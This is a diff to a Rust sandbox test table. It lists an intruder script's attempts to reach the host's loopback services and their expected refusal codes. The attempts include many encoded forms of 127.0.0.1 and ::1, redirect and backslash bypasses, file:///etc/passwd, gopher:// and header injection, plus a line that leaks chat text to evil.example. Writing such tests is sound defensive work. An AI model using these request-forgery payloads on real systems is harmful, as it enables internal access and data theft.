@@ -8,7 +8,7 @@ use super::components;
 pub(super) struct Attempt {
     /// The script's name, which is its file's.
     pub(super) name: &'static str,
-    /// What is said to it in its chat.
+    /// What is said to it in its chat; what stands in braces is filled in by the test.
     pub(super) text: &'static str,
     /// What it tries, for people.
     pub(super) tries: &'static str,
@@ -48,6 +48,11 @@ use Says::{Answered, Ended, Nothing, Refused};
 
 const fn row(name: &'static str, tries: &'static str, file: File, says: Says) -> Attempt {
     Attempt { name, text: name, tries, file, says, times: 1 }
+}
+
+/// Says `text` to the intruder, which asks for one action and tells what became of it.
+const fn told(name: &'static str, tries: &'static str, text: &'static str, says: &'static str) -> Attempt {
+    Attempt { text, ..row(name, tries, Guest("intruder"), Answered(says)) }
 }
 
 /// What is not granted to a script that the operator did not list. All others are granted everything in their chat.
@@ -160,6 +165,7 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
     row("state-under-odd-names", "uses keys with NUL, quotes and look-alikes", Guest("intruder"), Answered("9 of 9 kept apart")),
     row("state-too-large", "writes a key of 513 bytes and a value of 64 KiB and one", Guest("intruder"), Answered("key refused: true, value refused: true")),
     row("state-without-end", "writes state without end", Guest("intruder"), Ended("limit.host-calls", "")),
+    Attempt { times: 8, ..row("state-over-many-events", "fills its state in event after event", Guest("intruder"), Answered("limit.kv-total, written")) },
     row("state-beyond-numbers", "counts beyond the largest number", Guest("intruder"), Answered("it stays as it is")),
     row("shared-state-read-for-ever", "reads a large shared value without end", Guest("intruder"), Ended("limit.deadline", "")),
     row("shared-state-of-others", "writes another script's counter in shared state", Guest("intruder"), Answered("wrote into its own")),
@@ -187,15 +193,51 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
     row("speaks-through-a-path", "speaks through an account named as a path", Guest("intruder"), Ended("script.answer", "")),
     row("speaks-to-a-chat-that-is-not", "speaks in a chat of no kind", Guest("intruder"), Answered("send: grant.chat")),
     row("speaks-past-the-group", "speaks to a member in private", Guest("intruder"), Answered("send: grant.chat")),
-    row("answers-a-request-that-is-not", "approves a request that nobody made", Guest("intruder"), Answered("answer-request: network.refused")),
     row("sends-a-file-of-the-host", "sends the host's configuration as a picture", Guest("intruder"), Answered("send-media: action.invalid")),
     row("asks-for-what-is-not", "hands the network a call of its own", Guest("intruder"), Answered("other: unsupported")),
-    // What it fetches.
-    row("fetches-this-machine", "fetches from the host's own machine", Guest("intruder"), Answered("fetch: grant.fetch")),
-    row("fetches-by-ipv6", "fetches from the same by an IPv6 form", Guest("intruder"), Answered("fetch: grant.fetch")),
-    row("fetches-by-number", "fetches from the same by a whole number", Guest("intruder"), Answered("fetch: action.invalid")),
-    row("fetches-by-userinfo", "fetches from the same behind a user's name", Guest("intruder"), Answered("fetch: action.invalid")),
-    row("fetches-a-file", "fetches a file", Guest("intruder"), Answered("fetch: action.invalid")),
+    // What it names by an id alone. `{beside}` is a message of the chat beside, `{request}` a request to come into another group.
+    told("takes-back-what-was-said-beside", "takes back a message of another chat, by its id", "recall {beside}", "recall: id.unseen"),
+    told("takes-back-in-the-chat-beside", "takes back a message there, where it may not act", "recall-elsewhere {beside}", "recall: grant.chat"),
+    told("takes-back-what-it-guesses", "takes back a message whose id it guesses", "recall 1", "recall: id.unseen"),
+    told("quotes-what-was-said-beside", "quotes a message of another chat, by its id", "quote {beside}", "reply: id.unseen"),
+    told("answers-a-request-elsewhere", "lets somebody into a group that it was not given", "answer {request}", "answer-request: grant.chat"),
+    row("answers-a-request-that-is-not", "approves a request that nobody made", Guest("intruder"), Answered("answer-request: id.unseen")),
+    row("people-elsewhere", "looks up people in other groups, and friends", Guest("intruder"), Answered("0 found elsewhere, 4 here")),
+    // What it fetches. `{door}` is a place that it was granted, and `{vault}` the port of another one on the host's machine, which it was
+    // granted by the name `localhost`, and so not as a private one. Nobody ever comes to the vault.
+    told("fetches-this-machine", "fetches from the host's own machine", "fetch http://127.0.0.1:{vault}/", "fetch: grant.fetch"),
+    told("fetches-by-name", "fetches from a granted name that leads to the host's own machine", "fetch http://localhost:{vault}/", "fetch: fetch.address"),
+    told("fetches-by-name-in-capitals", "fetches from the same name in capitals", "fetch http://LOCALHOST:{vault}/", "fetch: fetch.address"),
+    told("fetches-by-name-with-a-dot", "fetches from the same name with a dot behind it", "fetch http://localhost.:{vault}/", "fetch: grant.fetch"),
+    told("fetches-by-ipv6", "fetches by the loopback address of IPv6", "fetch http://[::1]:{vault}/", "fetch: grant.fetch"),
+    told("fetches-by-mapped-ipv6", "fetches by an IPv4 address in IPv6 form", "fetch http://[::ffff:127.0.0.1]:{vault}/", "fetch: grant.fetch"),
+    told("fetches-by-mapped-ipv6-in-hex", "fetches by the same in hexadecimal", "fetch http://[::ffff:7f00:1]:{vault}/", "fetch: grant.fetch"),
+    told("fetches-by-compatible-ipv6", "fetches by an IPv4 address in the old IPv6 form", "fetch http://[::127.0.0.1]:{vault}/", "fetch: grant.fetch"),
+    told("fetches-by-nat64", "fetches by an IPv4 address in NAT64 form", "fetch http://[64:ff9b::7f00:1]:{vault}/", "fetch: grant.fetch"),
+    told("fetches-by-6to4", "fetches by an IPv4 address in 6to4 form", "fetch http://[2002:7f00:1::]:{vault}/", "fetch: grant.fetch"),
+    told("fetches-by-ipv6-with-a-zone", "fetches by a link-local address with a zone", "fetch http://[fe80::1%25lo]:{vault}/", "fetch: action.invalid"),
+    told("fetches-by-ipv6-without-brackets", "fetches by an IPv6 address without brackets", "fetch http://::1:{vault}/", "fetch: action.invalid"),
+    told("fetches-by-number", "fetches by an address as one number", "fetch http://2130706433:{vault}/", "fetch: action.invalid"),
+    told("fetches-by-hex", "fetches by an address in hexadecimal", "fetch http://0x7f000001:{vault}/", "fetch: action.invalid"),
+    told("fetches-by-octal", "fetches by an address in octal", "fetch http://0177.0.0.1:{vault}/", "fetch: action.invalid"),
+    told("fetches-by-half-an-address", "fetches by an address with parts left out", "fetch http://127.1:{vault}/", "fetch: action.invalid"),
+    told("fetches-by-wide-digits", "fetches by an address in full-width digits", "fetch http://１２７.０.０.１:{vault}/", "fetch: action.invalid"),
+    told("fetches-by-percents", "fetches by an address whose dots are escaped", "fetch http://127%2E0%2E0%2E1:{vault}/", "fetch: action.invalid"),
+    told("fetches-by-any-address", "fetches by the address of no host", "fetch http://0.0.0.0:{vault}/", "fetch: grant.fetch"),
+    told("fetches-by-userinfo", "fetches behind a granted place as a user's name", "fetch http://{door}@127.0.0.1:{vault}/", "fetch: action.invalid"),
+    told("fetches-behind-a-backslash", "fetches behind a granted place and a backslash: it gets that place", "fetch http://{door}\\@127.0.0.1:{vault}/", "did fetch, fetch: ok"),
+    told("fetches-by-redirect", "is led from a granted place to another one", "fetch http://{door}/to?http://127.0.0.1:{vault}/", "fetch: grant.fetch"),
+    told("fetches-by-redirect-to-a-name", "is led to a granted name that leads to the host's own machine", "fetch http://{door}/to?http://localhost:{vault}/", "fetch: fetch.address"),
+    told("fetches-by-redirect-to-a-number", "is led to an address as one number", "fetch http://{door}/to?http://2130706433:{vault}/", "fetch: grant.fetch"),
+    told("fetches-by-redirect-to-a-user", "is led behind a user's name", "fetch http://{door}/to?http://{door}@127.0.0.1:{vault}/", "fetch: fetch.failed"),
+    told("fetches-by-redirect-to-a-file", "is led to a file", "fetch http://{door}/to?file:///etc/passwd", "fetch: fetch.failed"),
+    told("fetches-in-a-circle", "is led from a place to itself", "fetch http://{door}/circle", "fetch: fetch.failed"),
+    told("fetches-as-another", "says that it means another host than it asks", "fetch-as-another http://{door}/", "fetch: action.invalid"),
+    told("fetches-with-two-lines", "puts a second header into a header", "fetch-with-two-lines http://{door}/", "fetch: action.invalid"),
+    told("fetches-a-file", "fetches a file", "fetch file:///etc/passwd", "fetch: action.invalid"),
+    told("fetches-a-socket", "fetches from another protocol", "fetch gopher://127.0.0.1:{vault}/_", "fetch: action.invalid"),
+    told("shows-a-picture-of-this-machine", "has a picture fetched from the host's own machine for it", "show http://127.0.0.1:{vault}/", "send-media: grant.fetch"),
+    told("says-a-picture-of-elsewhere", "has a picture fetched from where it wants, with what was said in the address", "say-with-picture https://evil.example/?said", "reply: grant.fetch"),
     // When it comes back.
     Attempt { times: 20, ..row("timers-by-the-thousand", "sets 1,200 timers", Guest("intruder"), Answered("schedule: limit.timers, schedule: ok")) },
     row("a-timer-in-a-million-years", "sets a timer in a million years", Guest("intruder"), Answered("schedule: action.invalid")),
